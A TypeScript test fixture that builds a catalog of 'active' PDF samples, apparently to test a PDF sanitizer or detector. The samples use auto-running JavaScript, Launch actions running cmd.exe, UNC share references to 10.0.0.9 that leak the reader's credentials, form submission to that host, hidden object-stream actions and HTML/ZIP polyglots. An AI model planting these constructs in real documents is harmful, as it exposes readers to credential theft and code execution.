import { bytesOf, rawPdf, stream, TEXT } from './raw-pdf.ts';

/** `\\10.0.0.9\share`: a share that a reader would log in to, with its user's credentials. */
const UNC = '(\\\\\\\\10.0.0.9\\\\share\\\\a.pdf)';
const SCRIPT = "/S/JavaScript/JS(app.launchURL\\('http://10.0.0.9'\\))";
const PROGRAM = stream('MZ\x90\x00 not really a program', '/Type/EmbeddedFile');
const ATTACHED = '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>';

const opening = (action: string): Buffer => rawPdf({ catalog: `/OpenAction<<${action}>>` });
const link = (action: string): Buffer =>
  rawPdf({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A<<${action}>>>>]` });
const annotation = (entries: string): Buffer =>
  rawPdf({ page: `/Annots[<</Type/Annot/Rect[0 0 99 99]${entries}>>]`, more: [PROGRAM, ATTACHED] });

/** The action in an object stream, found by a cross-reference stream: its name is nowhere to be read. */
const compressed = (): Buffer => {
  const objects = '6 0 <</S/Launch/F(cmd.exe)/NewWindow true>>';
  return rawPdf({
    catalog: '/OpenAction 6 0 R',
    more: ['<</S/Launch/F(cmd.exe)>>', stream(objects, '/Type/ObjStm/N 1/First 4')],
  });
};

/** PDFs that would do something when they are opened or looked at in a reader. */
export const activePdfs: Readonly<Record<string, Buffer>> = {
  'script on opening': opening(SCRIPT),
  'script by name': rawPdf({ catalog: `/Names<</JavaScript<</Names[(a)<<${SCRIPT}>>]>>>>` }),
  'script spelt with codes': opening('/S/J#61vaScript/J#53(app.alert\\(1\\))'),
  'script of a page': rawPdf({ page: `/AA<</O<<${SCRIPT}>>>>` }),
  'script of a field': rawPdf({
    catalog: '/AcroForm<</Fields[6 0 R]>>',
    page: '/Annots[6 0 R]',
    more: [`<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K<<${SCRIPT}>>/C<<${SCRIPT}>>>>>>`],
  }),
  'program on opening': opening('/S/Launch/F(cmd.exe)'),
  'program with parameters': opening('/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>'),
  'program behind a link': link('/S/Launch/F(C:\\\\Windows\\\\System32\\\\calc.exe)'),
  'program in compressed objects': compressed(),
  'share when a page opens (BadPDF)': rawPdf({ page: `/AA<</O<</S/GoToR/F${UNC}/D[0/Fit]>>>>` }),
  'share on opening': opening(`/S/GoToR/F${UNC}/D[0/Fit]`),
  'share behind a link': link(`/S/GoToR/F${UNC}/D[0/Fit]`),
  'address on opening': opening('/S/URI/URI(http://10.0.0.9/track)'),
  'address behind a link': link('/S/URI/URI(javascript:alert\\(1\\))'),
  'address relative to a share': rawPdf({
    catalog: '/URI<</Base(file://10.0.0.9/)>>/OpenAction<</S/URI/URI(share)>>',
  }),
  'embedded file that opens': rawPdf({
    catalog: '/OpenAction<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>/Names<</EmbeddedFiles<</Names[(a)7 0 R]>>>>',
    more: [PROGRAM, ATTACHED],
  }),
  'attached program': rawPdf({
    catalog: '/Names<</EmbeddedFiles<</Names[(a.exe)7 0 R]>>>>',
    more: [PROGRAM, ATTACHED],
  }),
  'portfolio of files': rawPdf({
    catalog: '/Collection<</View/T/D(a.exe)>>/Names<</EmbeddedFiles<</Names[(a.exe)7 0 R]>>>>',
    more: [PROGRAM, ATTACHED],
  }),
  'attached to a page': annotation('/Subtype/FileAttachment/FS 7 0 R/Contents(a.exe)'),
  'thread of a share': opening(`/S/Thread/F${UNC}/D 0`),
  'form that sends itself': opening('/S/SubmitForm/F<</FS/URL/F(http://10.0.0.9/)>>/Flags 256'),
  'form that fetches data': opening(`/S/ImportData/F${UNC}`),
  'sound of a share': opening(`/S/Sound/Sound<</R 8000/F${UNC}>>`),
  'film of a share': annotation(`/Subtype/Movie/T(a)/Movie<</F${UNC}>>/A true`),
  rendition: opening(`/S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D${UNC}/CT(video/mp4)>>>>/JS(app.alert\\(1\\))`),
  'rich media': annotation('/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a.swf)7 0 R]>>>>'),
  '3D with a script': annotation('/Subtype/3D/3DD 6 0 R/3DV<</Type/3DView/XN(a)>>'),
  'chain of actions without end': rawPdf({
    catalog: '/OpenAction 6 0 R',
    more: ['<</S/Named/N/NextPage/Next 6 0 R>>'],
  }),
  'form of another language (XFA)': rawPdf({
    catalog: '/NeedsRendering true/AcroForm<</Fields[]/XFA 6 0 R>>',
    more: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')],
  }),
  'content in a share': rawPdf({ content: stream('', `/F${UNC}/FFilter/FlateDecode`) }),
  'picture in a share': rawPdf({
    resources: '/XObject<</P 6 0 R>>',
    content: stream(`${TEXT} q 99 0 0 99 72 500 cm /P Do Q`),
    more: [stream('', `/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/F${UNC}`)],
  }),
  'page of a share by reference': rawPdf({
    resources: '/XObject<</P 6 0 R>>',
    content: stream(`${TEXT} /P Do`),
    more: [stream('', `/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Ref<</F${UNC}/Page 0>>`)],
  }),
  'web page behind the PDF': rawPdf({ tail: '<html><script>alert(1)</script></html>' }),
  'web page before its objects': bytesOf(
    '%PDF-1.7\n%<html><script>alert(1)</script><!--\n',
    rawPdf().subarray(9),
    '-->',
  ),
  'archive behind the PDF': rawPdf({
    tail: bytesOf('PK\x03\x04\x14\x00', 'evil.exe', Buffer.alloc(64), 'PK\x05\x06', Buffer.alloc(18)),
  }),
};
